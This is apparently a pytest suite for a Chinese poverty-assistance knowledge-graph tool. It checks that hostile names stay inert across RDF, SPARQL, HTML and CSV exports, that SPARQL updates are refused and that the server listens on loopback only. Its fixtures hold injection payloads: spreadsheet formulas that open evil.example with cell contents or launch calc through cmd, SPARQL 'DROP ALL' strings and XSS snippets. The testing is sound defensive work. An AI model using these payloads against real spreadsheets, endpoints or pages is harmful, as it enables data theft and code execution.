"""Names and text that look like markup, SPARQL or formulas pass through every output unchanged and inert."""
from __future__ import annotations

import csv
import json
import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from dataclasses import replace
from pathlib import Path

import pytest
import rdflib
from click.testing import CliRunner
from graphs import LUEYANG, XIAN, extraction, tiny_graph
from hostile import BAD
from lxml import etree

from graph.cli import cli
from graph.errors import QueryError
from graph.export import export
from graph.export.spreadsheet import inert
from graph.model import Entity, Evidence, Relation
from graph.rdf import publish, run_query, serialise, to_rdf
from graph.views import render, view

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|" /C calc"!A0', "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0")
NAMES = (BAD, '" } ; DROP ALL ; INSERT DATA { <urn:x> <urn:y> "z" } #', "'''\"\"\" } UNION { ?s ?p ?o } LIMIT 1",
         "SELECT * WHERE { ?s ?p ?o } 学校", "<![CDATA[x]]> --> <!-- <?xml ?> 学校", "\u202e校学 RTL", *FORMULAS)
COUNT = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
GEXF = "{http://gexf.net/1.3}"


def _school(name: str) -> Entity:
    return Entity(f"School:{name}", name, "School", (f"{name}别名",), None, XIAN.key, name)


def injected_graph():
    """Return the tiny graph plus one school per hostile name, each assisting Lueyang in a sentence of its name."""
    base = extraction("bad.txt", extra=tuple(_school(name) for name in NAMES))
    relations = []
    for name in NAMES:
        sentence = f"{name}对口帮扶略阳县。"
        relations.append(Relation(f"School:{name}", LUEYANG.key, "assists", name,
                                  Evidence("bad.txt", sentence, sentence, 0, len(sentence)), 0.7, 2019))
    meta = {**base.meta, "title": NAMES[1], "source": FORMULAS[0]}
    return tiny_graph(replace(base, meta=meta, relations=(*base.relations, *relations)))


@pytest.fixture(scope="module")
def graph():
    return injected_graph()


@pytest.fixture(scope="module")
def published(graph, tmp_path_factory):
    out = tmp_path_factory.mktemp("published")
    publish(graph, out)
    return out


@pytest.mark.parametrize("fmt", ["turtle", "nt", "json-ld", "xml"])
def test_rdf_parses_back_with_every_name_and_sentence_exact(graph, fmt):
    back = rdflib.Graph().parse(data=serialise(to_rdf(graph), fmt), format=fmt)
    literals = {str(o) for o in back.objects() if isinstance(o, rdflib.Literal)}
    for name in NAMES:
        assert name in literals and f"{name}对口帮扶略阳县。" in literals, name
    assert not list(back.triples((rdflib.URIRef("urn:x"), None, None)))


def test_sparql_parameters_find_each_name_and_change_nothing(published):
    before = int(run_query(published, COUNT).rows[0][0])
    lookup = "SELECT DISTINCT ?name ?school WHERE { ?school a bf:School ; rdfs:label ?label . FILTER(STR(?label) = ?name) }"
    for name in NAMES:
        result = run_query(published, lookup, {"name": name})
        assert len(result.rows) == 1 and result.rows[0][0] == name, name
        title = run_query(published, "SELECT DISTINCT ?t ?d WHERE { ?d dcterms:title ?x FILTER(STR(?x) = ?t) }", {"t": name})
        assert len(title.rows) == (1 if name == NAMES[1] else 0)
    assert int(run_query(published, COUNT).rows[0][0]) == before
    assert run_query(published, "ASK { <urn:x> ?p ?o }").boolean is False


def test_html_shows_each_name_as_text_never_as_markup(graph, tmp_path):
    net = view(graph)
    labels = {node["id"]: node["label"] for node in net.nodes}
    page = render(net)
    for name in NAMES:
        assert labels[f"School:{name}"] == name  # the canvas draws the exact string
    for raw in ("<img src=x", "</script><b>", "<![CDATA[x]]>", "<!-- <?xml"):
        assert raw not in page, raw
    focused = render(view(graph, focus=f"School:{NAMES[0]}", hops=1))
    assert "<img src=x" not in focused and "&lt;img src=x onerror=alert(1)&gt;" in focused


def test_gexf_and_graphml_parse_back_with_each_name_exact(graph, tmp_path):
    gexf = etree.parse(str(export(graph, "gexf", tmp_path / "g.gexf")[0]))
    labels = {node.get("id"): node.get("label") for node in gexf.iter(f"{GEXF}node")}
    graphml = etree.parse(str(export(graph, "graphml", tmp_path / "g.graphml")[0]))
    data = {d.text for d in graphml.iter("{http://graphml.graphdrawing.org/xmlns}data")}
    for name in NAMES:
        assert labels[f"School:{name}"] == name
        assert name in data and f"School:{name}" in {n.get("id") for n in graphml.iter(
            "{http://graphml.graphdrawing.org/xmlns}node")}


def test_csv_reads_back_exact_and_formulas_are_neutralised(graph, tmp_path):
    nodes_csv, edges_csv = export(graph, "csv", tmp_path / "csv")
    with nodes_csv.open(encoding="utf-8", newline="") as handle:
        rows = {row["Id"]: row for row in csv.DictReader(handle)}
    for name in NAMES:
        row = rows[f"School:{name}"]
        if name in FORMULAS:
            assert row["Label"] == "'" + name and row["romanised"] == "'" + name
        else:
            assert row["Label"] == name and row["romanised"] == name
    with edges_csv.open(encoding="utf-8", newline="") as handle:
        kinds = {row["Source"]: row["kind"] for row in csv.DictReader(handle)}
    assert kinds[f"School:{NAMES[1]}"] == NAMES[1] and kinds[f"School:{FORMULAS[0]}"] == "'" + FORMULAS[0]
    cells = [cell for path in (nodes_csv, edges_csv) for row in csv.reader(path.open(encoding="utf-8"))
             for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()]


@pytest.mark.parametrize("value, shown", [("=1+1", "'=1+1"), ("-x", "'-x"), ("@x", "'@x"), ("+x", "'+x"),
                                          ("\tx", "'\tx"), ("a=b", "a=b"), ("", ""), (-2, -2), (1.5, 1.5)])
def test_inert_quotes_only_text_a_spreadsheet_would_run(value, shown):
    assert inert(value) == shown


def test_a_hostile_file_name_and_title_go_through_bangfu_build(tmp_path):
    name = f'{NAMES[1]} <img src=x onerror=alert(1)>.txt'
    title = "<script>alert(1)</script>\" } ; DROP ALL ; #"
    (tmp_path / "corpus").mkdir()
    (tmp_path / "corpus" / name).write_text(f"{title}\n\n西安理工大学对口帮扶略阳县，培训乡村教师三十一人。\n",
                                            encoding="utf-8")
    runner = CliRunner()
    done = runner.invoke(cli, ["build", str(tmp_path / "corpus"), "-o", str(tmp_path / "out")],
                         catch_exceptions=False)
    assert done.exit_code == 0, done.output
    out = tmp_path / "out"
    back = rdflib.Graph().parse(out / "graph.ttl")
    assert name in {str(o) for o in back.objects()}
    found = run_query(out, "SELECT ?doc ?d WHERE { ?d dcterms:identifier ?x FILTER(STR(?x) = ?doc) }", {"doc": name})
    assert len(found.rows) == 1
    page = (out / "graph.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page and "<script>alert(1)" not in page
    gexf = etree.parse(str(out / "graph.gexf"))
    assert name in {v.get("value") for v in gexf.iter(f"{GEXF}attvalue")}
    done = runner.invoke(cli, ["export", str(out), "--format", "csv", "-o", str(tmp_path / "csv")],
                         catch_exceptions=False)
    assert done.exit_code == 0
    with (tmp_path / "csv" / "edges.csv").open(encoding="utf-8", newline="") as handle:
        assert name in {row["sources"] for row in csv.DictReader(handle)}


# --- updates are refused unless asked for (bangfu query, bangfu serve) ---

@pytest.mark.parametrize("update", [
    "insert data { <urn:a> <urn:b> <urn:c> }",
    "# a comment first\nPREFIX ex: <urn:ex:>\nDELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "CLEAR ALL", "DROP DEFAULT", "LOAD <http://example.org/data.ttl>", "ADD DEFAULT TO GRAPH <urn:g>",
    "COPY DEFAULT TO GRAPH <urn:g>", "MOVE DEFAULT TO GRAPH <urn:g>", "CREATE GRAPH <urn:g>",
    "WITH <urn:g> DELETE { ?s ?p ?o } INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }",
    "SELECT * WHERE { ?s ?p ?o } ; DROP ALL",
])
def test_bangfu_query_refuses_every_kind_of_update(published, update):
    before = int(run_query(published, COUNT).rows[0][0])
    done = CliRunner().invoke(cli, ["query", str(published), update], catch_exceptions=False)
    assert done.exit_code == 1 and done.output.startswith("Error: ")
    assert "read-only unless you pass --allow-update" in done.output or "invalid SPARQL query" in done.output
    with pytest.raises(QueryError):
        run_query(published, update)
    assert int(run_query(published, COUNT).rows[0][0]) == before


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _listening(port: int) -> set[str]:
    """Return the local addresses listening on `port`, read from Linux's socket tables."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        if not os.path.exists(table):
            continue
        for line in Path(table).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, hex_port = local.split(":")
            if state == "0A" and int(hex_port, 16) == port:  # 0A: LISTEN
                found.add(address)
    return found


def _serve(out: Path, *options: str) -> tuple[subprocess.Popen, int]:
    port = _free_port()
    server = subprocess.Popen([sys.executable, "-m", "graph", "serve", str(out), "--port", str(port), *options],
                              cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 30
    while not _listening(port):
        assert server.poll() is None and time.monotonic() < deadline, server.stderr.read()
        time.sleep(0.1)
    return server, port


def _stop(server: subprocess.Popen) -> None:
    server.terminate()
    server.wait(timeout=10)
    server.stderr.close()


@pytest.mark.skipif(not os.path.exists("/proc/net/tcp"), reason="reads Linux's socket tables")
def test_bangfu_serve_listens_on_loopback_only_by_default(graph, tmp_path):
    publish(graph, tmp_path)
    server, port = _serve(tmp_path)
    try:
        assert _listening(port) == {"0100007F"}  # 127.0.0.1, and no other address
    finally:
        _stop(server)


@pytest.mark.skipif(not os.path.exists("/proc/net/tcp"), reason="reads Linux's socket tables")
def test_bangfu_serve_applies_updates_only_with_allow_update(graph, tmp_path):
    publish(graph, tmp_path)
    before = int(run_query(tmp_path, COUNT).rows[0][0])
    server, port = _serve(tmp_path, "--allow-update")
    try:
        request = urllib.request.Request(f"http://127.0.0.1:{port}/update", method="POST",
                                         data=b"INSERT DATA { <urn:a> <urn:b> <urn:c> }",
                                         headers={"Content-Type": "application/sparql-update"})
        with urllib.request.urlopen(request, timeout=10) as response:
            assert response.status in (200, 204)
        query = urllib.parse.urlencode({"query": "ASK { <urn:a> <urn:b> <urn:c> }"})
        request = urllib.request.Request(f"http://127.0.0.1:{port}/query?{query}",
                                         headers={"Accept": "application/sparql-results+json"})
        with urllib.request.urlopen(request, timeout=10) as response:
            assert json.load(response)["boolean"] is True
    finally:
        _stop(server)
    assert int(run_query(tmp_path, COUNT).rows[0][0]) == before + 1
